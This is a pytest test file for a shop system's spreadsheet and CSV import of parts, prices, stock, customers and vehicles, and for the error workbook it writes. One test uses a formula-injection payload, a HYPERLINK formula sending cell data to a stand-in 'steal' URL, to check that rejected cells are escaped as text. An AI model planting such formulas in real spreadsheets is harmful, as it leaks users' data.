"""Imports row by row: real files made here, the shop's rules applied, one transaction."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from shopdesk.errors import AccessDenied, ValidationError
from shopdesk.io.importing import run_import, write_error_workbook
from shopdesk.models.audit import AuditEntry
from shopdesk.models.customers import Customer, CustomerPhone
from shopdesk.models.parts import Part, StockMovement
from shopdesk.models.vehicles import OdometerReading, Vehicle
from shopdesk.services.integrity import run_checks
from shopdesk.services.shop import import_mappings
from shopdesk.services.stock import parts as catalogue
from shopdesk.services.stock import stock
from tests.services.customer_helpers import car, person


def xlsx(path, rows, merges=()):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    for block in merges:
        ws.merge_cells(block)
    wb.save(path)
    return path


def csv_file(path, text):
    path.write_text(text, encoding="utf-8")
    return path


def problems(report):
    return [str(p) for p in report.problems]


# --- parts ----------------------------------------------------------------------------------
def test_parts_from_a_supplier_list_with_title_rows_and_written_numbers(owner, tmp_path):
    path = xlsx(tmp_path / "list.xlsx", [
        ["ACME price list", None, None], [None], ["Part No", "Description", "RRP", "Cost",
                                                  "EAN"],
        ["of-100", "Oil filter", "1,234.50", "2,75", "4006633112233"],
        [None, None, None, None, None],
        ["BP-200", "Brake pads", 40, 18.4, None]])
    report = run_import(owner, "parts", path)
    assert report.summary() == ("Imported from list.xlsx: 2 created, 0 updated, 0 unchanged, "
                                "0 rejected")
    oil = Part.get(Part.sku == "OF-100")
    assert (oil.retail_price, oil.cost) == (Decimal("1234.50"), Decimal("2.75"))
    assert catalogue.find_by_code(owner, "4006633112233").sku == "OF-100"
    assert Part.get(Part.sku == "BP-200").cost == Decimal("18.40")
    entry = AuditEntry.get(AuditEntry.action == "import")
    assert entry.username == "olivia" and "2 created" in entry.summary


def test_each_bad_row_is_reported_by_row_and_column(owner, tmp_path):
    catalogue.create_part(owner, sku="KNOWN-1", name="Known", barcodes=["999"])
    path = csv_file(tmp_path / "bad.csv", "SKU,Name,Price,Tax\n"
                    "A-1,Good,10.00,std\n"
                    "A 2,Space in SKU,1,\n"
                    "A-3,,1,\n"
                    "A-4,Too precise,1.234,\n"
                    "A-1,Twice,2,\n"
                    "999,Barcode as SKU,2,\n"
                    "A-7,Odd tax,2,LUX\n"
                    "A-8,Negative,-5,\n")
    report = run_import(owner, "parts", path)
    assert problems(report) == [
        "Row 3, SKU: 1–40 letters, digits, . _ / - (no spaces)",
        "Row 4, Name: A new part needs a name",
        "Row 5, Price: 1.234 has more than two decimal places",
        "Row 6, SKU: SKU A-1 is also on row 2: keep one row",
        "Row 7, SKU: 999 is another part's barcode; a scan would be ambiguous",
        "Row 8, Tax: No tax class 'LUX' (the shop has STD, ZERO)",
        "Row 9, Price: Cannot be negative"]
    assert report.created == 1 and Part.get(Part.sku == "A-1").tax_code == "STD"


def test_all_or_nothing_saves_nothing_when_a_row_is_bad(owner, tmp_path):
    path = csv_file(tmp_path / "p.csv", "SKU,Name\nA-1,One\nA 2,Bad\nA-3,Three\n")
    report = run_import(owner, "parts", path, all_or_nothing=True)
    assert not report.written and report.rejected == 1
    assert report.summary().startswith("Nothing imported from p.csv: 2 created")
    assert Part.select().count() == 0
    assert not AuditEntry.select().where(AuditEntry.action == "import").exists()
    report = run_import(owner, "parts", path)  # the valid rows
    assert report.written and Part.select().count() == 2


def test_dry_run_checks_everything_and_saves_nothing(owner, tmp_path):
    path = csv_file(tmp_path / "p.csv", "SKU,Name\nA-1,One\nA-2,Two\n")
    audited = AuditEntry.select().count()
    report = run_import(owner, "parts", path, dry_run=True)
    assert report.summary() == ("Would import from p.csv: 2 created, 0 updated, 0 unchanged, "
                                "0 rejected")
    assert Part.select().count() == 0 and AuditEntry.select().count() == audited


def test_a_known_sku_is_updated_not_duplicated_and_the_price_change_audited(owner, tmp_path):
    part = catalogue.create_part(owner, sku="OF-1", name="Oil filter", retail_price="9.00",
                                 brand="Bosch")
    path = csv_file(tmp_path / "p.csv", "SKU,Name,Price\nof-1,,9.50\nNEW-1,New part,3\n")
    report = run_import(owner, "parts", path)
    assert (report.created, report.updated) == (1, 1)
    again = Part.get_by_id(part.id)
    assert (again.name, again.brand, again.retail_price) == ("Oil filter", "Bosch",
                                                             Decimal("9.50"))
    assert again.version == part.version + 1
    change = AuditEntry.get(AuditEntry.action == "price change")
    assert '"9.00"' in change.before and '"9.50"' in change.after
    assert run_import(owner, "parts", path).unchanged == 2  # the same file again changes nothing


def test_missing_required_columns_are_named(owner, tmp_path):
    path = csv_file(tmp_path / "p.csv", "Description,Price\nOil filter,3\n")
    with pytest.raises(ValidationError, match=r"p.csv: map a SKU column first \(columns found: "
                                              r"Description, Price\)"):
        run_import(owner, "parts", path)
    assert Part.select().count() == 0


def test_formula_with_a_saved_result_is_taken_and_one_without_is_rejected(owner, tmp_path):
    path = xlsx(tmp_path / "f.xlsx", [["SKU", "Name", "Cost", "Price"],
                                      ["A-1", "Cached", 10, "=C2*2"],
                                      ["A-2", "Not cached", 10, "=C3*2"]])
    patched = tmp_path / "saved-by-excel.xlsx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(patched, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":  # Excel saves the result in <v>
                data = re.sub(rb"(<f>C2\*2</f>)<v\s*/>|(<f>C2\*2</f>)<v></v>|(<f>C2\*2</f>)",
                              rb"<f>C2*2</f><v>20</v>", data)
            out.writestr(info, data)
    report = run_import(owner, "parts", patched)
    assert Part.get(Part.sku == "A-1").retail_price == Decimal("20.00")
    assert problems(report) == ["Row 3, Price: Formula =C3*2 has no saved result: open the "
                                "file in Excel, save it, import again"]


def test_a_clerk_cannot_import_parts_prices_or_stock(clerk, tmp_path):
    path = csv_file(tmp_path / "p.csv", "SKU,Name,Price,Counted\nA-1,One,2,3\n")
    for kind in ("parts", "prices", "stock"):
        with pytest.raises(AccessDenied, match="Only the owner can import"):
            run_import(clerk, kind, path)
    assert Part.select().count() == 0


def test_a_technician_cannot_import_customers(technician, tmp_path):
    path = csv_file(tmp_path / "c.csv", "Name,Phone\nAnn Lee,2175550142\n")
    with pytest.raises(AccessDenied, match="technician cannot change customers"):
        run_import(technician, "customers", path)


# --- prices and stock -------------------------------------------------------------------
def test_price_updates_change_only_prices_of_known_skus(owner, tmp_path):
    a = catalogue.create_part(owner, sku="A-1", name="One", retail_price="10.00", cost="4.00")
    catalogue.create_part(owner, sku="B-2", name="Two", retail_price="5.00")
    path = csv_file(tmp_path / "prices.csv", "Item code;New price;Trade\n"
                    "a-1;12,50;9,00\nB-2;5,00;\nZZ-9;1,00;\n")
    report = run_import(owner, "prices", path)
    assert (report.updated, report.unchanged, report.rejected) == (1, 1, 1)
    assert problems(report) == ["Row 4, Item code: No part has the SKU ZZ-9: import it as a "
                                "part first"]
    again = Part.get_by_id(a.id)
    assert (again.retail_price, again.trade_price, again.cost) == (
        Decimal("12.50"), Decimal("9.00"), Decimal("4.00"))
    change = AuditEntry.get((AuditEntry.action == "price change") & (AuditEntry.entity_id
                                                                      == str(a.id)))
    assert '"retail_price": "10.00"' in change.before and "12.50" in change.after


def test_stock_counts_go_through_the_ledger(owner, db, tmp_path):
    a = catalogue.create_part(owner, sku="A-1", name="One", cost="2.00")
    b = catalogue.create_part(owner, sku="B-2", name="Two", barcodes=["5000111"])
    stock.record_movement(owner, a, "receipt", 10, unit_cost="2.00")
    path = csv_file(tmp_path / "count.csv", "SKU,Qty on hand\nA-1,7\n5000111,\"1,5\"\nA-1,3\n")
    report = run_import(owner, "stock", path)
    assert problems(report) == ["Row 4, SKU: A-1 is also counted on row 2: add the counts up "
                                "in one row"]
    assert Part.get_by_id(a.id).on_hand == Decimal("7.000")
    assert Part.get_by_id(b.id).on_hand == Decimal("1.500")
    moves = list(StockMovement.select().where(StockMovement.kind == "stocktake")
                 .order_by(StockMovement.id))
    assert [(m.quantity, m.reference) for m in moves] == [
        (Decimal("-3.000"), "Import count.csv"), (Decimal("1.500"), "Import count.csv")]
    assert [f for f in run_checks(db) if f.check == "stock"] == []


# --- customers and vehicles ---------------------------------------------------------------
def test_customers_matched_by_phone_or_email_are_updated(owner, tmp_path):
    ann = person(owner, "Ann", "Lee", phone="(217) 555-0142", email="ann@example.com")
    path = csv_file(tmp_path / "c.csv",
                    "Name,Mobile,E-mail,City,Customer since\n"
                    "Ann Lee,217.555.0142,,Springfield,2019-05-01\n"
                    "Bob Smith,,ANN@example.com,,\n"
                    "\"Jones, Cy\",+1 217 555 0199,cy@example.com,Decatur,15/03/2021\n")
    report = run_import(owner, "customers", path)
    assert problems(report) == [
        f"Row 3, Name: The phone or e-mail is Lee, Ann's (customer #{ann.id}) but the name is "
        "Smith, Bob: correct the name, or clear the phone and e-mail to add a new customer"]
    assert (report.created, report.updated) == (1, 1)
    again = Customer.get_by_id(ann.id)
    assert again.city == "Springfield"
    assert Customer.select().where(Customer.display_name == "Lee, Ann").count() == 1
    cy = Customer.get(Customer.display_name == "Jones, Cy")
    assert cy.created_at.date() == dt.date(2021, 3, 15)
    assert CustomerPhone.get(CustomerPhone.customer == cy.id).e164 == "+12175550199"


def test_duplicate_phone_inside_the_file_is_refused(owner, tmp_path):
    path = csv_file(tmp_path / "c.csv", "Name,Phone\nAnn Lee,217-555-0142\n"
                    "Ann L.,(217) 555 0142\n\n,\n")
    report = run_import(owner, "customers", path)
    assert problems(report) == ["Row 3, Phone: Same phone as row 2 (a duplicate in the file): "
                                "merge the two rows"]
    assert report.created == 1


def test_vehicles_with_merged_owner_cells_link_to_one_new_customer(owner, tmp_path):
    path = xlsx(tmp_path / "fleet.xlsx", [
        ["Owner", "Tel.", "Reg", "VIN", "Make", "Mileage", "Reading date"],
        ["Acme Haulage", "217 555 0100", "AB12 CDE", "1HGCM82633A004352", "Honda", "120,500",
         "15.03.2024"],
        [None, None, "XY99 ZZZ", None, "Ford", 45000, "March 3, 2024"],
        [None, None, "QQ11 QQQ", "1HGCM82633A004353", "VW", None, None]],
        merges=["A2:A4", "B2:B4"])
    report = run_import(owner, "vehicles", path)
    assert report.created == 3, problems(report)
    owners = {v.customer_id for v in Vehicle.select()}
    assert len(owners) == 1
    assert Customer.get_by_id(owners.pop()).display_name == "Haulage, Acme"
    readings = {r.vehicle.plate: (r.reading, r.read_on) for r in OdometerReading.select()}
    assert readings == {"AB12 CDE": (120500, dt.date(2024, 3, 15)),
                        "XY99 ZZZ": (45000, dt.date(2024, 3, 3))}
    notes = [str(w) for w in report.warnings]
    assert "Row 3, Owner: merged cells A2:A4: value of the first cell used" in notes
    assert any(n.startswith("Row 4, VIN:") for n in notes)  # bad check digit: saved, flagged


def test_a_known_vin_or_plate_updates_the_vehicle(owner, tmp_path):
    ann = person(owner)
    vehicle = car(owner, ann.id, plate="AB-123-CD", vin="1HGCM82633A004352", odometer=1000)
    path = csv_file(tmp_path / "v.csv", "Plate,VIN,Colour,Odometer\n"
                    ",1HGCM82633A004352,Blue,900\nab 123 cd,,Red,\n")
    report = run_import(owner, "vehicles", path)
    assert problems(report) == ["Row 3, Plate: Same vehicle as row 2 (matched by VIN or plate): "
                                "keep one row"]
    again = Vehicle.get_by_id(vehicle.id)
    assert again.colour == "Blue" and again.odometer == 1000
    assert Vehicle.select().count() == 1
    assert [str(w) for w in report.warnings] == [
        "Row 2, Odometer: Lower than the last reading (1,000): not recorded"]


def test_a_new_vehicle_without_an_owner_is_rejected(owner, tmp_path):
    path = csv_file(tmp_path / "v.csv", "Plate,Make\nAB12,Ford\n")
    report = run_import(owner, "vehicles", path)
    assert problems(report) == ["Row 2, Owner name: No owner: give the owner's name, phone "
                                "or e-mail"]


# --- the error workbook ---------------------------------------------------------------------
def test_rejected_rows_fixed_in_the_error_workbook_import_as_they_are(owner, tmp_path):
    path = csv_file(tmp_path / "p.csv", "SKU,Name,Price,Note\nA-1,Good,2,\n"
                    "A-2,Bad price,two,=SUM(A1)\nA-3,,3,\n")
    report = run_import(owner, "parts", path)
    errors = tmp_path / "rejected.xlsx"
    assert write_error_workbook(report, errors) == 2
    wb = openpyxl.load_workbook(errors)
    sheet = wb.active
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    assert rows[0] == ["SKU", "Name", "Price", "Note", "Import errors"]
    assert rows[1] == ["A-2", "Bad price", "two", "=SUM(A1)",
                       "Row 3: Price: 'two' is not a number"]
    assert sheet["D2"].data_type == "s"  # the note stays text, never a formula
    sheet["C2"] = 2.5
    sheet["B3"] = "Fixed name"
    wb.save(errors)
    again = run_import(owner, "parts", errors)
    assert (again.created, again.rejected) == (2, 0)
    assert Part.get(Part.sku == "A-2").retail_price == Decimal("2.50")


def test_a_rejected_formula_comes_back_as_text_in_the_error_workbook(owner, tmp_path):
    link = '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'
    book = openpyxl.Workbook()
    for row in (["SKU", "Name", "Cost", "Since", "Note"],
                [None, link, 12.5, dt.date(2024, 5, 1), "+1 555 0100"],
                ["B-2", "@SUM(1)", "lots", dt.date(2024, 6, 2), "-minus"],
                ["B-3", "Good", 3, None, None]):
        book.active.append(row)
    book.active["B2"].data_type = "s"  # typed as text in the file (a formula is refused)
    path = tmp_path / "p.xlsx"
    book.save(path)
    report = run_import(owner, "parts", path)
    assert (report.created, report.rejected) == (1, 2)
    errors = tmp_path / "rejected.xlsx"
    assert write_error_workbook(report, errors) == 2
    sheet = openpyxl.load_workbook(errors).active
    assert [c.value for c in sheet[1]] == ["SKU", "Name", "Cost", "Since", "Note",
                                           "Import errors"]
    for cell, text in ((sheet["B2"], link), (sheet["B3"], "@SUM(1)"),
                       (sheet["E2"], "+1 555 0100"), (sheet["E3"], "-minus")):
        assert (cell.value, cell.data_type) == (text, "s")  # text, never a formula
        assert cell.quotePrefix  # and Excel keeps it text when the cell is edited
    assert [sheet["C2"].value, sheet["C3"].value] == [12.5, "lots"]  # a number stays one
    assert sheet["D2"].value.date() == dt.date(2024, 5, 1)  # a date stays a date
    assert sheet["F2"].value == "Row 2: SKU: A part needs a SKU"
    # the same rows as CSV: text that a spreadsheet would run gets a leading quote
    assert write_error_workbook(report, tmp_path / "rejected.csv") == 2
    text = (tmp_path / "rejected.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text


def test_mappings_are_remembered_per_kind_and_set_of_headers(owner):
    import_mappings.remember(owner, "parts", ["Art.", "Bez."], {"Art.": "sku", "Bez.": "name"})
    assert import_mappings.recall(owner, "parts", ["Art.", "Bez."]) == {"Art.": "sku",
                                                                         "Bez.": "name"}
    assert import_mappings.recall(owner, "prices", ["Art.", "Bez."]) is None
    import_mappings.remember(owner, "parts", ["Art.", "Bez."], {"Art.": "sku", "Bez.": ""})
    assert import_mappings.recall(owner, "parts", ["Art.", "Bez."]) == {"Art.": "sku", "Bez.": ""}


def test_imported_customers_are_stored_as_the_customer_form_stores_them(owner, tmp_path):
    from shopdesk.services.crm import customers as customer_service
    from shopdesk.services.crm import search

    typed = customer_service.add_customer(owner, customer_service.CustomerInput(
        first_name="Typed", last_name="Person", phones=[
            customer_service.PhoneInput("(217) 555-0142"),
            customer_service.PhoneInput("12", "home")],
        email="Typed@Example.COM", postcode="ab1 2cd", marketing_consent=True)).customer
    path = csv_file(tmp_path / "c.csv", "First name,Last name,Mobile,Home phone,Email,Postcode,"
                    "Newsletter\nImported,Person,217.555.0199,12,Imp@Example.COM,ab1 2cd,yes\n")
    report = run_import(owner, "customers", path)
    assert [str(w) for w in report.warnings] == [
        "Row 2, Home phone: Not a phone number we understand; saved as typed"] or [
        str(w) for w in report.warnings] == [
        "Row 2, Home phone: This number does not look valid; saved as typed"]
    imported = Customer.get(Customer.first_name == "Imported")

    def stored(customer):
        phones = [(p.label, p.e164, bool(p.problem)) for p in CustomerPhone.select()
                  .where(CustomerPhone.customer == customer.id).order_by(CustomerPhone.position)]
        return (customer.display_name.split(", ")[0], customer.email.split("@")[1],
                customer.postcode, customer.marketing_consent, customer.grade, customer.version,
                [(label, bool(e164), problem) for label, e164, problem in phones])

    assert stored(imported) == stored(typed)
    assert [m.customer_id for m in search.find(owner, "5550199")] == [imported.id]
    assert [m.customer_id for m in search.find(owner, "imported")] == [imported.id]
    created = AuditEntry.get((AuditEntry.entity == "customer")
                             & (AuditEntry.entity_id == str(imported.id)))
    assert created.action == "create" and '"phones": ["217.555.0199", "12"]' in created.after


def test_imported_vehicles_are_stored_as_the_vehicle_form_stores_them(owner, tmp_path):
    from shopdesk.services.crm import search

    ann = person(owner, "Ann", "Lee", phone="(217) 555-0142", email="ann@example.com")
    typed = car(owner, ann.id, plate="ab-12 cd", vin="1HGCM82633A004352", odometer=5000,
                make="", model="Accord")
    path = csv_file(tmp_path / "v.csv", "Reg,VIN,Model,Mileage,Owner phone,Year\n"
                    "xy-99 zz,1HGCM82633A004353,Civic,\"7,000\",217 555 0142,\n"
                    "QQ 1,,Golf,-5,217 555 0142,\n")
    report = run_import(owner, "vehicles", path)
    assert problems(report) == ["Row 3, Mileage: An odometer reading is a whole number from 0 "
                                "to 3,000,000"]
    assert [str(w) for w in report.warnings] == [
        "Row 2, VIN: The check digit (9th character) does not match: a typing mistake?"]
    imported = Vehicle.get(Vehicle.model == "Civic")

    def stored(vehicle):
        return (vehicle.customer_id, vehicle.make, vehicle.year, len(vehicle.plate_key),
                vehicle.plate == vehicle.plate.upper(), vehicle.version,
                [(o.customer_id, o.until) for o in vehicle.ownerships],
                [r.user_id for r in vehicle.readings])

    assert stored(imported) == stored(Vehicle.get_by_id(typed.id))
    assert (imported.plate, imported.odometer) == ("XY-99 ZZ", 7000)
    assert [m.customer_id for m in search.find(owner, "XY99")] == [ann.id]
    actions = sorted(a for (a,) in AuditEntry.select(AuditEntry.action).where(
        (AuditEntry.entity == "vehicle") & (AuditEntry.entity_id == str(imported.id))).tuples())
    assert actions == ["create", "odometer"]
